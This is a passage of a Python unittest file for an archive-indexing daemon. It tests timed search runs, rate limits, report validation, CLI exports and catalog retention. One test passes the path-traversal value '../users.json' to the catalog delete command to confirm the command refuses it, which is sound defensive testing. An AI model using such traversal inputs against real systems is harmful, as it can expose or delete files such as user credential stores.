        self.assertEqual((body["mode"], body["passed"], body["points"], body["untested"]), ("scored", True, 3, []))
        st, rep, _ = self.d.request("GET", "/api/v1/reports/timed-tests")
        self.assertEqual((rep["scored_run"], rep["points"]), (body["id"], 3))
        # a later run of the easy half (one record left untried): incomplete,
        # and the scored run above still counts
        dr = self.draw(self.ev, codes=codes)
        self.timed(self.ev, dr["draw"], 1, "fulltext")
        self.timed(self.ev, dr["draw"], 1, "paper")
        st, part, _ = self.run_of(self.ev, {"draw": dr["draw"]})
        self.assertEqual((part["mode"], part["passed"], part["points"]), ("incomplete", True, 0))
        self.assertEqual(part["untested"], ["Z099-WS·2017-D30-BGS-0003"])
        st, rep, _ = self.d.request("GET", "/api/v1/reports/timed-tests")
        self.assertEqual((rep["scored_run"], rep["points"]), (body["id"], 3))
        # a phrase that is not in the record is never "found": the daemon
        # searches it as the caller (here the record's pages were read again
        # after the draw, and the drawn phrase is gone)
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        st, _, _ = self.trial(self.ev, dr["draw"], 1, "start", "fulltext")
        self.assertEqual(st, 200)
        pages = code_path("Z099-WS·2017-Y-BGS-0001") + "/pages/"
        try:
            for n in (1, 2, 3):
                st, body, _ = self.d.request("PUT", f"{pages}{n}", "重新识别后的文字", "text/plain")
                self.assertIn(st, (200, 201), body)
            st, stop, _ = self.trial(self.ev, dr["draw"], 1, "stop", "fulltext", True)
            self.assertEqual((st, stop["found"], stop["search_found"], stop["passed"]), (200, False, False, False))
        finally:
            for n in (1, 2, 3):
                self.d.request("PUT", f"{pages}{n}", "扫描页文字", "text/plain")

    def test_m10_archivist_runs_are_practice(self):
        dr = self.draw(self.li, codes="Z099-WS·2017-Y-BGS-0001")
        self.assertEqual(dr["role"], "archivist")
        self.timed(self.li, dr["draw"], 1, "fulltext")
        st, body, _ = self.run_of(self.li, {"draw": dr["draw"], "evaluator": "评估组组长"})
        self.assertEqual(st, 201, body)
        self.assertEqual((body["evaluator"], body["role"], body["mode"], body["passed"], body["points"]),
                         ("li", "archivist", "practice", True, 0))
        st, rep, _ = self.d.request("GET", "/api/v1/reports/timed-tests")
        self.assertNotEqual(rep["scored_run"], body["id"])
        mine = [x for x in rep["runs"] if x["id"] == body["id"]][0]
        self.assertEqual((mine["mode"], mine["points"], mine["note"]), ("practice", 0, "评估组组长"))
        if rep["scored_run"]:
            scored = [x for x in rep["runs"] if x["id"] == rep["scored_run"]][0]
            self.assertEqual((scored["role"], scored["mode"], scored["points"]), ("evaluator", "scored", rep["points"]))
        st, raw, _ = self.d.request("GET", "/api/v1/reports/timed-tests?format=csv", raw=True)
        self.assertIn(f"{body['id']},", raw.decode("utf-8-sig"))
        self.assertIn("li,档案员,练习（不计分）", raw.decode("utf-8-sig"))

    def test_m10_evaluator_is_the_caller(self):
        # the admin (the harness) names someone else: the run is the admin's, and practice
        dr = self.draw(True, codes="Z099-WS·2017-Y-BGS-0001")
        self.timed(True, dr["draw"], 1, "fulltext")
        st, body, _ = self.run_of(True, {"draw": dr["draw"], "evaluator": "王评估"})
        self.assertEqual(st, 201, body)
        self.assertEqual((body["evaluator"], body["role"], body["mode"], body["points"], body["note"]),
                         ("harness", "admin", "practice", 0, "王评估"))

    def test_l7_open_draws_are_bounded(self):
        self.d.add_user("赵评估", "evaluator", "evaluator-password-2")
        tok = self.d.make_token("赵评估")
        for _ in range(20):
            self.draw(tok, n=1, seed=3)
        st, body, _ = self.call(tok, "GET", "/api/v1/timed-tests/draw?n=1&seed=3")
        self.assertEqual(st, 429, body)
        self.assertIn("次尚未使用的抽取", body["error"]["message"])
        self.draw(self.ev, n=1, seed=3)  # another user still draws

    def test_bad_requests(self):
        for params, param in (({"format": "xml"}, "format"), ({"encoding": "big5", "format": "csv"}, "encoding"),
                              ({"fonds": "Z0!"}, "fonds"), ({"limit": "0"}, "limit")):
            st, body, _ = self.d.request("GET", "/api/v1/reports/coverage?" + urllib.parse.urlencode(params))
            self.assertEqual(st, 400, body)
            self.assertEqual(body["error"]["param"], param)
        st, body, _ = self.d.request("GET", "/api/v1/reports/coverage?fonds=Z0!")
        self.assertEqual(body["error"]["message"], "fonds 须为全宗号：1 至 16 个字母或数字")
        st, body, _ = self.d.request("GET", "/api/v1/reports/coverage?limit=0")
        self.assertEqual(body["error"]["message"], "limit 须为 1 至 100000 的数字")
        st, body, _ = self.d.request("GET", "/api/v1/reports/acceptance?format=csv")
        self.assertEqual((st, body["error"]["param"], body["error"]["message"]),
                         (400, "delivery", "导出 CSV 或 HTML 须指定一个交付批次：?delivery=…"))
        st, body, _ = self.d.request("GET", "/api/v1/reports/acceptance?delivery=" + urllib.parse.quote("无此批次"))
        self.assertEqual((st, body["error"]["message"]), (404, "没有名为 无此批次 的交付批次"))
        st, body, _ = self.d.request("GET", "/api/v1/reports/nothing")
        self.assertEqual(st, 404)
        st, body, _ = self.d.request("POST", "/api/v1/reports/coverage", "")
        self.assertEqual(st, 405)
        st, body, _ = self.d.request("GET", "/healthz")
        self.assertEqual(st, 200)

    def test_cli(self):
        env = dict(os.environ, INDEXD_URL=self.d.base)
        r = subprocess.run([QUERY, "report", "coverage", "--fonds", "Z099"], capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("50.00%（已数字化 2 / 4 件）", r.stdout)
        self.assertIn("得分（第 22 项）：1.67 / 2 分", r.stdout)
        self.assertIn("Z099-WS·2017-Y-BGS-0002  1号库-02列-1节-1层-002盒  已扫描 1 / 2 页", r.stdout)
        out = os.path.join(ARTEFACTS, "ledger.csv")
        r = subprocess.run([QUERY, "report", "ledger", "--fonds", "Z099", "--format", "csv", "--gb18030", "--out", out],
                           capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(out, "rb") as f:
            self.assertTrue(f.read().decode("gb18030").startswith("全宗号,门类"))
        r = subprocess.run([QUERY, "report", "ledger", "--json", "--fonds", "Z099"], capture_output=True, text=True, env=env)
        self.assertEqual(json.loads(r.stdout)["totals"]["items"], 6)
        r = subprocess.run([QUERY, "report", "catalog", "--fonds", "Z099"], capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("得分（第 9 项）：5.00 / 5 分", r.stdout)
        self.assertNotIn("pages_scanned", r.stdout)
        r = subprocess.run([QUERY, "report", "audit"], capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 2)
        self.assertIn("未知报告 'audit'", r.stderr)
        r = subprocess.run([QUERY, "report", "coverage", "--gb18030"], capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 2)


class KeptCatalogsTest(unittest.TestCase):
    """Which imported catalogs the daemon keeps for the audit, and `indexd catalogs`."""

    @classmethod
    def setUpClass(cls):
        cls.d = Daemon(EXE).start()

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()

    def catalogs(self):
        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
        self.assertEqual(st, 200, r)
        return [c["file"] for c in r["catalogs"]]

    def command(self, *args):
        return subprocess.run([EXE, "catalogs", *args, "--data-dir", self.d.data_dir], capture_output=True, text=True)

    def test_kept_and_pruned(self):
        # a file of which nothing could be imported is not kept
        junk = "档号,题名\n" + "".join(f"bad{i},x\n" for i in range(2000))
        st, body, _ = self.d.request("POST", "/api/v1/catalog", junk, "text/csv")
        self.assertEqual((st, body["imported"], body["kept"]), (200, 0, False), body)
        self.assertEqual(self.catalogs(), [])
        good = []
        for i in range(3):
            cat = f"档号,题名,责任者,日期,页数\nZ094-WS·2019-Y-BGS-000{i + 1},第{i}件,县扶贫办,20190101,1\nbad,x\n"
            st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
            self.assertEqual((st, body["imported"], body["kept"]), (200, 1, True), body)
            good.append(cat)
        kept = self.catalogs()
        self.assertEqual(len(kept), 3)
        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
        self.assertEqual(r["rows"], 6)
        # over 64 MiB: refused before anything is written
        big = "档号,题名,责任者,日期,页数\nZ093-WS·2019-Y-BGS-0001,大,县扶贫办,20190101,1\n" + "x" * (64 << 20)
        st, body, _ = self.d.request("POST", "/api/v1/catalog", big, "text/csv")
        self.assertEqual((st, body["error"]["status"]), (413, "too_big"), body)
        self.assertEqual(body["error"]["message"], "目录文件不得超过 64 MiB（检索服务要留存它供目录检查使用）；请拆分为几个较小的文件")
        st, _, _ = self.d.request("GET", code_path("Z093-WS·2019-Y-BGS-0001"))
        self.assertEqual(st, 404)
        # indexd catalogs, beside the running daemon
        r = self.command("list")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual([ln.split()[0] for ln in r.stdout.splitlines() if ln.split()[0].endswith(".csv")], kept)
        r = self.command("delete", kept[0])
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.catalogs(), kept[1:])
        r = self.command("delete", "../users.json")
        self.assertEqual(r.returncode, 1)
        self.assertIn("没有名为“../users.json”的留存目录文件", r.stderr)
        r = self.command("prune", "--keep", "1")
        self.assertEqual((r.returncode, r.stdout.strip()), (0, "已删除 1 个目录文件，保留 1 个"), r.stderr)
        self.assertEqual(self.catalogs(), kept[2:])
        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
        self.assertEqual((r["rows"], r["irregular"][0]["line"]), (2, 3))
        self.assertEqual(self.command("prune").returncode, 2)


if __name__ == "__main__":
    unittest.main(verbosity=2)
